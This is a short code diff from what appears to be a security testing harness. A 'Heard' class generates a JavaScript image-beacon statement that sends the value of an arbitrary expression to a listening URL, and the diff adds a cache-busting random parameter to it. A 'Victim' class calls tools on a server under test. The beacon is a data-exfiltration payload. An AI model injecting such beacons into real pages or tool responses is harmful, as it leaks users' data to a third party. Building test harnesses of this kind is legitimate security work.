@@ -48,7 +48,9 @@ class Heard:
 
     def script(self, expression: str) -> str:
         """A statement that reports what an expression gives."""
-        return f"(new Image).src = `{self.url}?what=${{encodeURIComponent({expression})}}`"
+        # A picture of the same address is not asked for twice.
+        address = f"{self.url}?what=${{encodeURIComponent({expression})}}&n=${{Math.random()}}"
+        return f"(new Image).src = `{address}`"
 
 
 def hearing(site: Site) -> Heard:
@@ -133,7 +135,7 @@ class Victim:
         self.session = session
         self.told = ""
 
-    async def call(self, name: str, **arguments: Any) -> str:
+    async def call(self, name: str, /, **arguments: Any) -> str:
         """What a tool says, errors too; never that of the server's own fault, and in time."""
         with anyio.fail_after(LONGEST_CALL):
             async with Client(self.server, mode="legacy") as client:
